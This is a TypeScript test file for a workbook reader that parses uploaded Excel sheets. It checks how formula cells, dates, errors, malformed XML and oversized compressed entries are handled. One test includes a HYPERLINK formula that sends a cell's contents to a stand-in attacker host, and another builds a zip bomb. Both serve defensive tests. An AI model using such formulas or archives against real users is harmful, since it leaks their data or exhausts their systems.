import { crc32 } from 'node:zlib';
import * as ExcelJS from 'exceljs';
import { ValidationError } from '@lethe/platform/errors';
import { repeatedEntry, SHEET, SHEET_START, withEntry, workbookFile } from '../../test/xlsx-files';
import { cellContent, sheetRows, type SheetRow } from './workbook';
import { inspectZip } from './zip';

async function readAll(file: Buffer): Promise<SheetRow[]> {
  const rows: SheetRow[] = [];
  for await (const row of sheetRows(file, inspectZip(file))) rows.push(row);
  return rows;
}

describe('reading the first worksheet of an uploaded workbook', () => {
  it('streams the rows of the first sheet with their numbers, every value as text', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Talente');
    sheet.addRow(['Vorname', 'Nachname', 'Telefon', 'Verfügbar ab']);
    sheet.addRow([{ richText: [{ text: 'Ja', font: { bold: true } }, { text: 'na' }] }, 'Novak', 4930123456, new Date(Date.UTC(2027, 2, 1))]);
    sheet.getRow(4).values = ['Max', 'Muster', '', ''];
    workbook.addWorksheet('Second').addRow(['not read']);
    const file = Buffer.from(await workbook.xlsx.writeBuffer());

    const rows = await readAll(file);
    expect(rows.map((row) => row.number)).toEqual([1, 2, 4]);
    expect(rows[0].filledColumns()).toEqual([1, 2, 3, 4]);
    expect([1, 2, 3, 4].map((column) => rows[1].cell(column))).toEqual([
      { kind: 'text', text: 'Jana' },
      { kind: 'text', text: 'Novak' },
      { kind: 'text', text: '4930123456' },
      { kind: 'text', text: '2027-03-01' },
    ]);
    expect(rows[2].cell(9)).toEqual({ kind: 'text', text: '' });
  });

  it('knows a formula cell as a formula, its cached result unused, and shared formulas too', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Talente');
    sheet.addRow(['E-Mail', 'Zahl']);
    sheet.addRow([{ formula: 'HYPERLINK("http://evil.example/?"&A1)', result: 'jana@example.org' }, { formula: 'B1+1', result: 2 }]);
    sheet.addRow(['x', { sharedFormula: 'B2', result: 3 }]);
    const file = Buffer.from(await workbook.xlsx.writeBuffer());
    const rows = await readAll(file);
    expect(rows[1].cell(1)).toEqual({ kind: 'formula' });
    expect(rows[1].cell(2)).toEqual({ kind: 'formula' });
    expect(rows[2].cell(2)).toEqual({ kind: 'formula' });
  });

  it('reads a value of any kind exceljs gives', () => {
    expect(cellContent(null)).toEqual({ kind: 'text', text: '' });
    expect(cellContent(true)).toEqual({ kind: 'text', text: 'true' });
    expect(cellContent({ error: '#N/A' })).toEqual({ kind: 'error' });
    expect(cellContent({ text: 'jana@example.org', hyperlink: 'mailto:jana@example.org' })).toEqual({ kind: 'text', text: 'jana@example.org' });
    expect(cellContent({ formula: '', result: 3 })).toEqual({ kind: 'formula' });
    expect(cellContent(new Date(Date.UTC(2027, 0, 5, 13, 30)))).toEqual({ kind: 'text', text: '2027-01-05T13:30:00.000Z' });
  });

  it('can stop after the header row, and refuses a sheet that inflates beyond what it declares while reading it', async () => {
    const file = await workbookFile([['Vorname'], ['Jana']]);
    const rows = sheetRows(file, inspectZip(file));
    expect((await rows.next()).value?.number).toBe(1);
    await rows.return(undefined);

    const row = Buffer.from('<row r="2"><c r="A2" t="inlineStr"><is><t>Jana</t></is></c></row>');
    const body = await repeatedEntry(SHEET, row, 30 * 1024 * 1024, SHEET_START);
    const lying = withEntry(file, { ...body, declaredSize: 100_000 });
    await expect(readAll(lying)).rejects.toThrow(ValidationError);
    await expect(readAll(lying)).rejects.toMatchObject({ violations: [{ field: 'xlsx', code: 'zip_bomb' }] });
  });

  it('refuses a workbook whose sheet is not XML', async () => {
    const file = await workbookFile([['Vorname'], ['Jana']]);
    const xml = Buffer.from('<worksheet><sheetData><row r="1"></sheetData>');
    const broken = withEntry(file, { name: SHEET, method: 0, data: xml, crc: crc32(xml), declaredSize: xml.length });
    await expect(readAll(broken)).rejects.toMatchObject({ violations: [{ field: 'xlsx', code: 'not_xlsx' }] });
  });
});
